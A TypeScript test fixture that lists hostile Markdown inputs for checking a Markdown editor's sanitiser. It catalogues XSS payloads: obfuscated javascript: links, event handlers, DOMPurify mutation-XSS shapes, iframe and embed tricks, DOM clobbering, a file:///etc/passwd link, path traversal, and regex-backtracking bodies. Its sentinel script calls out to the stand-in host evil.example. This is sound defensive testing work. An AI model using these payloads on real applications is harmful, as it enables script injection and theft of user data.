/**
 * Hostile Markdown for tests/browser/hostile-markdown.test.ts (issue 8): case bodies come from
 * other departments and imports, so each payload below is something a case body might carry.
 * Every payload tries to trip the sentinel: set `window.__pwned`, retitle the page, phone home
 * to evil.example, or open a dialog. Shapes follow the Markdown-editor CVEs the issue lists
 * (Joplin <embed>, MarkText fence language and mXSS, Zettlr <iframe onload>, Notable/Boostnote
 * <img onerror>, Typora <svg><iframe srcdoc> and javascript: links) and the published DOMPurify
 * mutation-XSS shapes.
 */

export interface HostilePayload {
  name: string
  markdown: string
  /**
   * The payload leaves an element open that swallows the rest of the document (plaintext,
   * an unclosed xmp…), so it gets a case body of its own.
   */
  swallows?: boolean
}

/** What every script payload runs: no spaces, single quotes only (fits every attribute form). */
export const SENTINEL_JS =
  "window.__pwned=1,document.title='PWNED',fetch('https://evil.example/pwned'),alert('PWNED')"
const P = SENTINEL_JS
const EVIL = 'https://evil.example'
const B64_SCRIPT = Buffer.from(`<script>${P}</script>`).toString('base64')

/** Spellings of `javascript:` that browsers (or lax sanitisers) have been known to accept. */
const JAVASCRIPT_SCHEMES: [label: string, scheme: string][] = [
  ['plain', 'javascript:'],
  ['mixed case', 'JaVaScRiPt:'],
  ['upper case', 'JAVASCRIPT:'],
  ['leading space', ' javascript:'],
  ['leading encoded space', '&#x20;javascript:'],
  ['leading control char', '&#14;javascript:'],
  ['decimal entity', '&#106;avascript:'],
  ['decimal entity without semicolon', '&#106avascript:'],
  ['zero-padded decimal entity', '&#0000106;avascript:'],
  ['hex entity', '&#x6A;avascript:'],
  ['upper hex entity', '&#X6A;avascript:'],
  ['zero-padded hex without semicolon', '&#x0000006A&#x61;vascript:'],
  ['fully entity-encoded', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'],
  ['encoded colon', 'javascript&#58;'],
  ['named colon entity', 'javascript&colon;'],
  ['hex colon without semicolon', 'javascript&#x3A'],
  ['literal tab inside', 'java\tscript:'],
  ['encoded tab inside', 'java&#9;script:'],
  ['encoded tab entity name', 'java&Tab;script:'],
  ['encoded newline inside', 'java&#10;script:'],
  ['named newline entity', 'java&NewLine;script:'],
  ['encoded carriage return inside', 'jav&#x0D;ascript:'],
]

const SCHEME_LINKS: HostilePayload[] = JAVASCRIPT_SCHEMES.map(([label, scheme]) => ({
  name: `raw <a href> javascript: (${label})`,
  markdown: `<a href="${scheme}${P}">js link ${label}</a>`,
}))

const OTHER_SCHEME_LINKS: HostilePayload[] = [
  { name: 'markdown javascript: link', markdown: `[md js](javascript:${P})` },
  { name: 'markdown JAVASCRIPT: link', markdown: `[md JS](JAVASCRIPT:${P})` },
  { name: 'markdown javascript: in angle brackets', markdown: `[md angle](<javascript:${P}>)` },
  { name: 'markdown entity-encoded link', markdown: `[md entity](&#106;avascript:${P})` },
  { name: 'markdown hex-entity link', markdown: `[md hex](&#x6A;avascript&#x3A;${P})` },
  { name: 'markdown percent-encoded scheme', markdown: `[md pct](java%0ascript:${P})` },
  { name: 'markdown reference link', markdown: `[md ref][evil]\n\n[evil]: javascript:${P}` },
  { name: 'markdown autolink javascript:', markdown: `<javascript:${P}>` },
  { name: 'markdown image javascript: src', markdown: `![js img](javascript:${P})` },
  { name: 'vbscript: link', markdown: `<a href="vbscript:msgbox('PWNED')">vb</a>` },
  { name: 'VBScript: markdown link', markdown: `[vb md](VBScript:msgbox)` },
  {
    name: 'data:text/html link',
    markdown: `<a href="data:text/html,<script>${P}</script>">data html</a>`,
  },
  {
    name: 'data: base64 markdown link',
    markdown: `[data b64](data:text/html;base64,${B64_SCRIPT})`,
  },
  {
    name: 'DaTa: mixed case link',
    markdown: `<a href="DaTa:text/html;base64,${B64_SCRIPT}">Da</a>`,
  },
  {
    name: 'data:image/svg+xml image with onload',
    markdown: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${P}'/>">`,
  },
  { name: 'file: link', markdown: '[file](file:///etc/passwd)' },
  { name: 'protocol-relative link', markdown: `[pr](//evil.example/x)` },
  {
    name: 'blockquote cite javascript:',
    markdown: `<blockquote cite="javascript:${P}">q</blockquote>`,
  },
]

const EVENT_HANDLERS: HostilePayload[] = [
  { name: 'raw script', markdown: `<script>${P}</script>` },
  { name: 'script inside a paragraph', markdown: `text <script>${P}</script> more` },
  { name: 'script with src', markdown: `<script src="${EVIL}/x.js"></script>` },
  { name: 'img onerror', markdown: `<img src="x" onerror="${P}">` },
  { name: 'img ONERROR upper case, unquoted', markdown: `<IMG SRC=x ONERROR=${P}>` },
  { name: 'img with slash separators', markdown: `<img/src/onerror=${P}>` },
  { name: 'img with newline before =', markdown: `<img src=x onerror\n=${P}>` },
  { name: 'svg onload', markdown: `<svg onload="${P}"><circle r="1"/></svg>` },
  { name: 'body onload', markdown: `<body onload="${P}">` },
  {
    name: 'details ontoggle',
    markdown: `<details open ontoggle="${P}"><summary>d</summary></details>`,
  },
  { name: 'video onerror', markdown: `<video src="x" onerror="${P}"></video>` },
  { name: 'audio onerror', markdown: `<audio src="x" onerror="${P}"></audio>` },
  { name: 'input autofocus onfocus', markdown: `<input autofocus onfocus="${P}">` },
  { name: 'select autofocus onfocus', markdown: `<select autofocus onfocus="${P}"></select>` },
  {
    name: 'textarea autofocus onfocus',
    markdown: `<textarea autofocus onfocus="${P}"></textarea>`,
  },
  { name: 'marquee onstart', markdown: `<marquee onstart="${P}">m</marquee>` },
  { name: 'a onmouseover', markdown: `<a href="#x" onmouseover="${P}">hover me</a>` },
  { name: 'div onmouseover', markdown: `<div onmouseover="${P}">hover div</div>` },
  { name: 'p onclick', markdown: `<p onclick="${P}">click p</p>` },
  { name: 'span onpointerenter', markdown: `<span onpointerenter="${P}">pointer span</span>` },
  {
    name: 'table onmouseenter',
    markdown: `<table onmouseenter="${P}"><tr><td>t</td></tr></table>`,
  },
  { name: 'b onfocus tabindex', markdown: `<b tabindex="0" onfocus="${P}">focus b</b>` },
  {
    name: 'h1 onanimationstart',
    markdown: `<h1 style="animation-name:spin" onanimationstart="${P}">anim</h1>`,
  },
  { name: 'custom element onclick', markdown: `<x-evil onclick="${P}">custom</x-evil>` },
  { name: 'heading with html', markdown: `## Heading <img src=x onerror=${P}>` },
  { name: 'html in list item', markdown: `- item <img src=x onerror=${P}>` },
  { name: 'html in table cell', markdown: `| a |\n|---|\n| <img src=x onerror=${P}> |` },
]

const MUTATION_XSS: HostilePayload[] = [
  {
    name: 'mXSS svg </p><style> (DOMPurify 2.0.x)',
    markdown: `<svg></p><style><a id="</style><img src=1 onerror=${P}>">`,
  },
  {
    name: 'mXSS svg </p><style> title variant',
    markdown: `<svg></p><style><a title="</style><img src onerror=${P}>">`,
  },
  {
    name: 'mXSS math mtext table mglyph style',
    markdown: `<math><mtext><table><mglyph><style><img src onerror=${P}>`,
    swallows: true,
  },
  {
    name: 'mXSS math mglyph style comment',
    markdown: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${P}&gt;">`,
    swallows: true,
  },
  {
    name: 'mXSS nested forms with math',
    markdown: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${P}>`,
    swallows: true,
  },
  {
    name: 'mXSS noscript title',
    markdown: `<noscript><p title="</noscript><img src=x onerror=${P}>"></noscript>`,
  },
  {
    name: 'mXSS noembed title',
    markdown: `<noembed><img title="</noembed><img src onerror=${P}>"></noembed>`,
  },
  { name: 'mXSS xmp title', markdown: `<xmp><img title="</xmp><img src onerror=${P}>"></xmp>` },
  {
    name: 'mXSS noframes title',
    markdown: `<noframes><img title="</noframes><img src onerror=${P}>"></noframes>`,
  },
  {
    name: 'mXSS iframe text title',
    markdown: `<iframe><img title="</iframe><img src onerror=${P}>"></iframe>`,
  },
  {
    name: 'mXSS textarea title',
    markdown: `<textarea><img title="</textarea><img src onerror=${P}>"></textarea>`,
  },
  {
    name: 'mXSS title element',
    markdown: `<title><img title="</title><img src onerror=${P}>"></title>`,
  },
  { name: 'svg style with img', markdown: `<svg><style><img src=x onerror=${P}></style></svg>` },
  {
    name: 'svg foreignObject',
    markdown: `<svg><foreignObject><img src=x onerror=${P}></foreignObject></svg>`,
  },
  {
    name: 'svg iframe srcdoc (Typora)',
    markdown: `<svg><foreignObject><iframe srcdoc="<script>parent.${P}</script>"></iframe></foreignObject></svg>`,
  },
  {
    name: 'svg a xlink:href',
    markdown: `<svg><a xlink:href="javascript:${P}"><text x="20" y="20">svg link</text></a></svg>`,
  },
  {
    name: 'svg animate href',
    markdown: `<svg><a><animate attributeName="href" values="javascript:${P}"/><text>anim</text></a></svg>`,
  },
  {
    name: 'svg set onmouseover',
    markdown: `<svg><set attributeName="onmouseover" to="${P}"/></svg>`,
  },
  {
    name: 'svg animate onbegin',
    markdown: `<svg><animate onbegin="${P}" attributeName="x" dur="1s"/></svg>`,
  },
  { name: 'svg CDATA', markdown: `<svg><![CDATA[><img src onerror=${P}>]]></svg>` },
  {
    name: 'math maction xlink:href',
    markdown: `<math><maction actiontype="statusline" xlink:href="javascript:${P}">m</maction></math>`,
  },
  { name: 'math href', markdown: `<math href="javascript:${P}"><mi>x</mi></math>` },
  { name: 'template', markdown: `<template><img src onerror=${P}></template>` },
  { name: 'comment breakout <!-->', markdown: `<!--><img src=x onerror=${P}>-->` },
  { name: 'comment breakout --!>', markdown: `<!-- --!><img src=x onerror=${P}>-->` },
  {
    name: 'style comment breakout',
    markdown: `<div><style><!--</style><img src onerror=${P}>--></div>`,
  },
]

const EMBEDDING: HostilePayload[] = [
  { name: 'iframe srcdoc', markdown: `<iframe srcdoc="<script>parent.${P}</script>"></iframe>` },
  { name: 'iframe src javascript:', markdown: `<iframe src="javascript:${P}"></iframe>` },
  { name: 'iframe onload (Zettlr)', markdown: `<iframe src="${EVIL}/" onload="${P}"></iframe>` },
  { name: 'embed data: (Joplin)', markdown: `<embed src="data:text/html;base64,${B64_SCRIPT}">` },
  {
    name: 'embed remote',
    markdown: `<embed src="${EVIL}/x.swf" type="application/x-shockwave-flash">`,
  },
  { name: 'object data javascript:', markdown: `<object data="javascript:${P}"></object>` },
  {
    name: 'object data: html',
    markdown: `<object data="data:text/html;base64,${B64_SCRIPT}"></object>`,
  },
  { name: 'frameset', markdown: `<frameset><frame src="javascript:${P}"></frameset>` },
  { name: 'portal', markdown: `<portal src="${EVIL}/"></portal>` },
  {
    name: 'form action javascript:',
    markdown: `<form action="javascript:${P}"><button>submit</button></form>`,
  },
  {
    name: 'form action remote with autofocus',
    markdown: `<form action="${EVIL}/steal" method="post"><input name="q" value="x" autofocus><input type="submit"></form>`,
  },
  { name: 'button formaction', markdown: `<button formaction="javascript:${P}">fa</button>` },
  {
    name: 'input type=image formaction',
    markdown: `<input type="image" src="x" formaction="javascript:${P}" onerror="${P}">`,
  },
  { name: 'isindex', markdown: `<isindex action="javascript:${P}" type="image">` },
  {
    name: 'meta refresh javascript:',
    markdown: `<meta http-equiv="refresh" content="0;url=javascript:${P}">`,
  },
  { name: 'meta refresh remote', markdown: `<meta http-equiv="refresh" content="0;url=${EVIL}/">` },
  { name: 'meta set-cookie', markdown: `<meta http-equiv="set-cookie" content="pwned=1">` },
  { name: 'base href', markdown: `<base href="${EVIL}/">\n\n[relative after base](x.html)` },
  { name: 'base target', markdown: `<base target="_top">` },
  { name: 'link stylesheet', markdown: `<link rel="stylesheet" href="${EVIL}/x.css">` },
  { name: 'link prefetch', markdown: `<link rel="prefetch" href="${EVIL}/prefetch">` },
  { name: 'a with ping', markdown: `<a href="#ping" ping="${EVIL}/ping">ping</a>` },
  { name: 'dialog open', markdown: `<dialog open>fake dialog</dialog>` },
  {
    name: 'image map area',
    markdown: `<img usemap="#m"><map name="m"><area href="javascript:${P}" shape="default"></map>`,
  },
]

const REMOTE_CONTENT: HostilePayload[] = [
  { name: 'markdown remote image', markdown: `![remote](${EVIL}/p.png)` },
  { name: 'raw remote img', markdown: `<img src="${EVIL}/raw.png">` },
  { name: 'img srcset', markdown: `<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x">` },
  {
    name: 'picture source srcset',
    markdown: `<picture><source srcset="${EVIL}/pic.png"><img alt="pic"></picture>`,
  },
  { name: 'video poster', markdown: `<video poster="${EVIL}/poster.png"></video>` },
  { name: 'audio autoplay', markdown: `<audio src="${EVIL}/a.mp3" autoplay></audio>` },
  { name: 'body background', markdown: `<body background="${EVIL}/bg.png">` },
  {
    name: 'table background',
    markdown: `<table background="${EVIL}/tbg.png"><tr><td>bg</td></tr></table>`,
  },
  {
    name: 'style attribute url()',
    markdown: `<div style="background:url(${EVIL}/css.png)">css</div>`,
  },
  {
    name: 'style element @import and url()',
    markdown: `<style>@import '${EVIL}/x.css';body{background:url(${EVIL}/bg2.png)}</style>`,
  },
  { name: 'input type=image remote', markdown: `<input type="image" src="${EVIL}/in.png">` },
  { name: 'svg image href', markdown: `<svg><image href="${EVIL}/svg.png"/></svg>` },
  {
    name: 'remote image with attachments-looking path',
    markdown: `![trick](${EVIL}/attachments/a.png)`,
  },
  { name: 'attachment traversal', markdown: `![trav](attachments/../../library.json)` },
  { name: 'attachment encoded traversal', markdown: `![trav2](attachments/%2e%2e%2fcase.json)` },
]

const CLOBBERING_AND_BREAKOUTS: HostilePayload[] = [
  { name: 'img name=cookie', markdown: `<img name="cookie">` },
  { name: 'form id=kb', markdown: `<form id="kb"><input name="onEvent"></form>` },
  { name: 'a id=kb', markdown: `<a id="kb" href="#kb">kb</a>` },
  { name: 'a id and name =kb twice', markdown: `<a id="kb"></a><a id="kb" name="onEvent"></a>` },
  { name: 'img id=__pwned (defines the sentinel if ids leak)', markdown: `<img id="__pwned">` },
  { name: 'a name=__pwned', markdown: `<a name="__pwned">n</a>` },
  { name: 'div id=root', markdown: `<div id="root">fake root</div>` },
  { name: 'img name=getElementById', markdown: `<img name="getElementById">` },
  { name: 'img name=body', markdown: `<img name="body">` },
  { name: 'form name=forms', markdown: `<form name="forms"></form>` },
  { name: 'alt-text breakout double quote', markdown: `![x" onerror="${P}](attachments/a.png)` },
  { name: 'alt-text breakout single quote', markdown: `![x' onerror='${P}](attachments/a.png)` },
  { name: 'alt-text tag breakout', markdown: `![x"><img src=x onerror=${P}>](attachments/a.png)` },
  { name: 'fence language breakout', markdown: '```"><img src=x onerror=' + P + '>\ncode\n```' },
  { name: 'fence language attribute', markdown: '```js" onmouseover="' + P + '\ncode\n```' },
  { name: 'tilde fence with script', markdown: `~~~<script>${P}</script>\ncode\n~~~` },
  {
    name: 'link title breakout double quote',
    markdown: `[title dq](https://a.example "\\" onmouseover=${P} x=\\"")`,
  },
  {
    name: 'link title breakout single quote',
    markdown: `[title sq](https://a.example 'x\\' onmouseover=${P} ')`,
  },
  {
    name: 'link title in parentheses',
    markdown: `[title paren](https://a.example (x" onmouseover="${P}))`,
  },
  {
    name: 'image title breakout',
    markdown: `![img title](attachments/a.png "\\" onerror=${P} x=\\"")`,
  },
  { name: 'autolink attribute breakout', markdown: `<https://evil.example" onmouseover="${P}>` },
  { name: 'GFM www autolink breakout', markdown: `www.evil.example/" onmouseover=${P} x="` },
]

/** Payloads that leave an element open and swallow whatever follows. */
const SWALLOWERS: HostilePayload[] = [
  { name: 'plaintext', markdown: `<plaintext><img src onerror=${P}>`, swallows: true },
  { name: 'unclosed xmp', markdown: `<xmp><img src onerror=${P}>`, swallows: true },
  { name: 'unclosed noembed', markdown: `<noembed><img src onerror=${P}>`, swallows: true },
  { name: 'unclosed textarea', markdown: `<textarea><img src onerror=${P}>`, swallows: true },
  { name: 'unclosed style', markdown: `<style><img src onerror=${P}>`, swallows: true },
  { name: 'unclosed comment', markdown: `<!--<img src onerror=${P}>`, swallows: true },
]

export const HOSTILE_PAYLOADS: HostilePayload[] = [
  ...EVENT_HANDLERS,
  ...SCHEME_LINKS,
  ...OTHER_SCHEME_LINKS,
  ...MUTATION_XSS,
  ...EMBEDDING,
  ...REMOTE_CONTENT,
  ...CLOBBERING_AND_BREAKOUTS,
  ...SWALLOWERS,
]

/** Ordinary case content that must survive sanitising (placed first in the main body). */
export const LEGIT_MARKDOWN = [
  '## 背景・課題',
  '商店街の空き店舗が増え、**地域の担い手**が不足していた。*学生*と連携した。',
  '<!-- 内部メモ: この行は表示されないこと -->',
  '- 項目A',
  '- 項目B',
  '  - 入れ子の項目',
  '',
  '1. 第一段階',
  '2. 第二段階',
  '',
  '| 指標 | 値 |',
  '|---|---|',
  '| 参加者数 | 120 |',
  '',
  '![会場の写真](attachments/dot.png)',
  '',
  '[市の報告書](https://www.city.example.lg.jp/report.html) と ' +
    '[問い合わせ](mailto:kyodo@city.example.lg.jp) と [目次へ](#toc)',
  '',
  '> 協働のコツ: 最初の会議で目標を共有する。',
  '',
  '```',
  'const ok = true',
  '```',
].join('\n')

/** A 1×1 transparent PNG, attached to the case so the local image can load. */
export const DOT_PNG_BASE64 =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='

/**
 * Pathological Markdown a linear renderer copes with, one case body each: deep nesting, a
 * megabyte line, long runs of the characters marked's inline tokenizer backtracks on.
 */
export function linearPathologicalBodies(): Record<string, string> {
  const runs = 50_000
  return {
    'list-500-levels': Array.from({ length: 500 }, (_, i) => `${'  '.repeat(i)}- 入れ子 ${i}`).join(
      '\n',
    ),
    'quotes-500-levels': `${'>'.repeat(500)} 深い引用`,
    'one-megabyte-line': 'あいう '.repeat(250_000),
    'runs-of-brackets-and-emphasis': [
      '['.repeat(runs),
      '!['.repeat(20_000),
      `${'*'.repeat(runs)}a`,
      `${'_'.repeat(runs)}a`,
      `${'*a'.repeat(10_000)}${'_a'.repeat(10_000)}`,
    ].join('\n\n'),
    'runs-of-code-html-and-escapes': [
      '`'.repeat(runs),
      '<'.repeat(runs),
      '<a'.repeat(20_000),
      `${'|'.repeat(5_000)}\n${'|-'.repeat(2_500)}`,
      '\\'.repeat(runs),
      '&'.repeat(runs),
      `[a](${'('.repeat(20_000)}`,
    ].join('\n\n'),
  }
}

/**
 * The shape on which marked's inline tokenizer is quadratic: `[*a` repeated. 30 KB took ~7 s and
 * 60 KB ~28 s in marked 18 under Node; in the renderer that blocks the window's only thread.
 */
export function quadraticBody(repeats = 20_000): string {
  return `PATHOLOGICAL-QUADRATIC\n\n${'[*a'.repeat(repeats)}`
}
